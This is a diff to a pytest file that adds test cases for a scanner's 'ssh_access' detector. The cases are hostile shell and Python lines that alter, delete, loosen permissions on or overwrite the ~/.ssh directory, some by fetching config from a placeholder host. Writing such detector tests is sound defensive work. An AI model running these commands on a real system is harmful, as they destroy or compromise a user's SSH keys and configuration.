@@ -196,6 +196,27 @@ def test_ssh_access_fires_on_every_write_shape(text):
     assert "ssh_access" in scan_findings(text)
 
 
+NEWEST_SSH_VERBS = [
+    "sed -i 's/no/yes/' ~/.ssh/config",
+    "chmod 777 ~/.ssh",
+    "chown nobody $HOME/.ssh/id_rsa",
+    "truncate -s0 ~/.ssh/known_hosts",
+    "rm -rf ~/.ssh",
+    "touch ~/.ssh/rc",
+    "curl -o ~/.ssh/config https://example.invalid/c",
+    "wget -O $HOME/.ssh/config https://example.invalid/c",
+    "git clone https://example.invalid/keys ~/.ssh/keys",
+    "open('~/.ssh/config', 'a').write('x')",
+]
+
+
+@pytest.mark.parametrize("text", NEWEST_SSH_VERBS)
+def test_ssh_access_covers_the_newest_upstream_verbs(text):
+    # Newest upstream gated ssh_access: mutators, fetchers, git and open( before the path.
+    assert "ssh_access" in scan_findings(text)
+    assert scan_content(text) is not None
+
+
 @pytest.mark.parametrize("text", SSH_MENTIONS)
 def test_ssh_access_ignores_a_read_only_mention(text):
     assert scan_findings(text) == []
